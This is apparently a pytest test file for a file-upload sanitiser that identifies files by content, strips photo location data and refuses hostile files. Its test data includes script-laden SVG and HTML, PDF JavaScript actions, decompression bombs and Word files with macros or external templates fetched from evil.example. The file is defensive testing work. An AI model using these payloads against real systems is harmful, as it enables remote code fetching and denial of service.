"""Files are hostile: each is told by what is in it, pictures are written anew, and what could run is refused."""

import io
import struct
import zipfile
import zlib
from contextlib import suppress

import pytest
from PIL import Image

from fingerpost.casework.attachments import Cleaned, FileRefused, Place, Why, clean, place_in
from fingerpost.casework.attachments.scanning import Scan
from fingerpost.record.challenges.files import MEGABYTE, MOST_BYTES

PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
LATITUDE = (51.0, 29.0, 12.0)  # 51.486667 north
LONGITUDE = (3.0, 10.0, 48.0)  # 3.18 west
CONTENT_TYPES = b"<Types>wordprocessingml.document.main+xml</Types>"


def picture(form: str = "JPEG", *, size: tuple[int, int] = (80, 60), mode: str = "RGB", exif: bool = False) -> bytes:
    into = io.BytesIO()
    made = Image.new(mode, size, 128 if mode == "L" else (200, 40, 40, 90)[: len(mode)])
    more = {}
    if exif:
        held = Image.Exif()
        held[0x010F] = "A camera of somebody"  # its maker
        held[0x0112] = 6  # to be turned
        held.get_ifd(0x8825).update({1: "N", 2: LATITUDE, 3: "W", 4: LONGITUDE})
        more["exif"] = held
    made.save(into, form, **more)
    return into.getvalue()


def word(**parts: bytes) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", parts.pop("[Content_Types].xml", CONTENT_TYPES))
        packed.writestr("word/document.xml", b"<w:document>Hello</w:document>")
        for name, content in parts.items():
            packed.writestr(name.replace("__", "/"), content)
    return into.getvalue()


def related(kind: str, target: str) -> bytes:
    """A Word file that has to do with something outside it."""
    of = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    held = f'<Relationships><Relationship Type="{of}" Target="{target}" TargetMode="External"/></Relationships>'
    return word(**{"word___rels__settings.xml.rels": held.encode()})


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "https://www.gov.uk/"),
        ("attachedTemplate", "file:///C:/Users/mair/Letters.dotx"),
        ("attachedTemplate", r"C:\Letters.dotx"),
    ],
)
def test_a_letter_with_links_or_a_template_of_its_writers_own_is_taken(kind: str, target: str) -> None:
    assert clean("letter.docx", related(kind, target)).kind == "docx"


def bomb_picture() -> bytes:
    """A PNG that says it has 900 million pixels, in a few hundred bytes."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack("!L", len(content)) + name + content + struct.pack("!L", zlib.crc32(name + content))

    header = struct.pack("!LLBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 90_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def bomb_word() -> bytes:
    """70 MB of nothing, in about 70 KB."""
    return word(word__media__image1=b"\0" * 70 * MEGABYTE)


def lying_bomb_word() -> bytes:
    """The same, and each of its headers says that it is short."""
    size = struct.pack("<L", 70 * MEGABYTE)
    return bomb_word().replace(size, struct.pack("<L", 9))


def opened(cleaned: Cleaned) -> Image.Image:
    return Image.open(io.BytesIO(cleaned.content))


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("nothing.png", b"", Why.EMPTY),
        ("large.pdf", PDF + b"x" * 6 * MEGABYTE, Why.TOO_LARGE),
        ("drawing.svg", SVG, Why.PAGE),
        ("drawing.png", SVG, Why.PAGE),
        ("page.txt", b"Dear council,\n\n<script src=//elsewhere.example></script>", Why.PAGE),
        ("page.jpg", b"<!-- x --><html><body onload=alert(1)>", Why.PAGE),
        ("page.txt", b"\xef\xbb\xbf  <!DOCTYPE html><p>hello", Why.PAGE),
        ("page.png", b"GIF89a/*<script>alert(1)</script>\x00", Why.PAGE),
        ("phone.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 60, Why.PHONE_PHOTO),
        ("phone.jpg", b"\0\0\0\x18ftypavif\0\0\0\0" + b"\0" * 60, Why.PHONE_PHOTO),
        ("program.jpg", b"MZ\x90\0\3", Why.UNKNOWN),
        ("archive.zip", b"PK\x03\x04 some other archive", Why.UNKNOWN),
        ("moving.gif", picture("GIF", mode="L"), Why.UNKNOWN),
        ("bomb.png", bomb_picture(), Why.TOO_MUCH_INSIDE),
        ("bomb.docx", bomb_word(), Why.TOO_MUCH_INSIDE),
        ("macros.docm", word(word__vbaProject_bin=b"x").replace(b"vbaProject_bin", b"vbaProject.bin"), Why.PROGRAM),
        ("macros.docx", word(**{"word__embeddings__oleObject1.bin": b"x"}), Why.PROGRAM),
        ("active.docx", word(**{"word__activeX__activeX1.xml": b"x"}), Why.PROGRAM),
        ("named.docx", word(**{"[Content_Types].xml": b'<x ct="vnd.ms-office.vbaProject"/>'}), Why.PROGRAM),
        ("coded.docx", word(**{"[Content_Types].xml": '<x ct="macroEnabled"/>'.encode("utf-16")}), Why.PROGRAM),
        ("fetches.docx", related("attachedTemplate", "https://evil.example/x.dotm"), Why.PROGRAM),
        ("fetches.docx", related("attachedTemplate", "&#104;ttps://evil.example/x.dotm"), Why.PROGRAM),
        ("fetches.docx", related("oleObject", "file://evil.example/share/x.doc"), Why.PROGRAM),
        ("fetches.docx", related("frame", r"\\\\evil.example\\share\\x.docx"), Why.PROGRAM),
        ("two.docx", word() + SVG, Why.DAMAGED),
        ("cut.docx", word()[:-30], Why.DAMAGED),
        ("starts.pdf", PDF + b"<< /S /JavaScript /JS (app.alert(1)) >>\n%%EOF", Why.PROGRAM),
        ("starts.pdf", PDF + b"<< /S /J#61va#53cript >>\n%%EOF", Why.PROGRAM),
        ("archive.pdf", PDF + word(), Why.PROGRAM),
        ("page.pdf", b"%PDF-1.7 <script>alert(1)</script>\n" + PDF, Why.PAGE),
        ("cut.pdf", PDF[:20], Why.DAMAGED),
        ("cut.jpg", picture(size=(400, 300))[:1200], Why.DAMAGED),
        ("none.jpg", b"\xff\xd8\xff\xe0 nothing", Why.DAMAGED),
        ("none.webp", b"RIFF\x10\0\0\0WEBPVP8 nothing here", Why.DAMAGED),
    ],
)
def test_a_hostile_file_is_refused_with_a_reason(name: str, content: bytes, why: Why) -> None:
    with pytest.raises(FileRefused) as refused:
        clean(name, content)
    assert refused.value.why is why
    assert refused.value.problems["files"].startswith(name.rpartition(".")[0])


def test_a_bomb_that_lies_about_its_size_is_refused() -> None:
    assert len(lying_bomb_word()) < MEGABYTE
    with pytest.raises(FileRefused):
        clean("bomb.docx", lying_bomb_word())


@pytest.mark.parametrize(
    ("content", "kind", "name"),
    [
        (PDF, "pdf", "letter.pdf"),
        (word(), "docx", "letter.docx"),
        ("Annwyl gyngor,\r\n<helo> £5 < £6".encode(), "text", "letter.txt"),
        (picture(), "jpeg", "letter.jpg"),
        (picture("PNG"), "png", "letter.png"),
        (picture("WEBP"), "jpeg", "letter.jpg"),
        (picture("WEBP", mode="RGBA"), "png", "letter.png"),
        (picture("JPEG", mode="L"), "jpeg", "letter.jpg"),
    ],
)
def test_an_ordinary_file_is_taken_by_what_it_is(content: bytes, kind: str, name: str) -> None:
    found = clean("../letter.pdf.exe", content)
    assert (found.kind, found.name) == (kind, name)
    assert found.was_stripped == (kind in {"png", "jpeg"})
    assert found.scan == "none"


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_a_photo_keeps_neither_place_nor_camera_and_stands_upright(form: str) -> None:
    content = picture(form, exif=True)
    assert b"A camera of somebody" in content
    found = clean("photo", content)
    assert b"A camera" not in found.content
    assert place_in(found.content) is None
    assert not opened(found).getexif()
    assert opened(found).size == (60, 80)


def test_the_place_of_a_photo_is_given_only_to_who_asks_for_it() -> None:
    found = place_in(picture(exif=True))
    assert found == Place(latitude=51.486667, longitude=-3.18)
    assert place_in(picture()) is None
    assert place_in(PDF) is None
    assert place_in(picture(exif=True)[:300]) is None


def test_what_follows_a_picture_or_hides_in_it_is_gone() -> None:
    found = clean("photo.jpg", picture() + word() + SVG)
    assert b"PK\x03\x04" not in found.content
    assert b"<svg" not in found.content


def test_a_huge_photo_is_made_smaller_and_still_one() -> None:
    found = clean("photo.jpg", picture(size=(9000, 6000)))
    assert max(opened(found).size) <= 4096
    assert len(found.content) <= MOST_BYTES


def test_colours_of_print_and_few_colours_are_taken() -> None:
    for made in (Image.new("CMYK", (9, 9)), Image.new("P", (9, 9)), Image.new("I;16", (9, 9)), Image.new("1", (9, 9))):
        form = "JPEG" if made.mode == "CMYK" else "PNG"
        into = io.BytesIO()
        made.save(into, form)
        assert clean("x", into.getvalue()).was_stripped


class Says:
    """A scanner that says one thing."""

    def __init__(self, what: Scan) -> None:
        self.what = what
        self.seen: list[bytes] = []

    def scan(self, content: bytes) -> Scan:
        self.seen.append(content)
        return self.what


def test_what_the_scanner_finds_something_in_is_refused_and_is_told_as_that() -> None:
    scanner = Says(Scan.INFECTED)
    with pytest.raises(FileRefused) as refused:
        clean("letter.pdf", PDF, scanner=scanner)
    assert refused.value.why is Why.INFECTED
    assert scanner.seen == [PDF]


@pytest.mark.parametrize("what", [Scan.CLEAN, Scan.FAILED, Scan.NONE])
def test_what_the_scanner_said_stands_with_the_file(what: Scan) -> None:
    assert clean("letter.pdf", PDF, scanner=Says(what)).scan == what.value


@pytest.mark.parametrize("at", range(0, 300, 3))
def test_a_word_file_that_is_broken_anywhere_is_refused_or_taken_and_never_a_fault(at: int) -> None:
    """The library looks for parts before the beginning of one, and raises what belongs to no archive."""
    whole = related("hyperlink", "https://www.gov.uk/")
    for wrong in (b"\xff\xff\xff\xff", b"\0\0\0\0", b"\x7f"):
        broken = whole[: -at or None][: -len(wrong)] + wrong + whole[len(whole) - at :]
        with suppress(FileRefused):
            clean("letter.docx", broken)
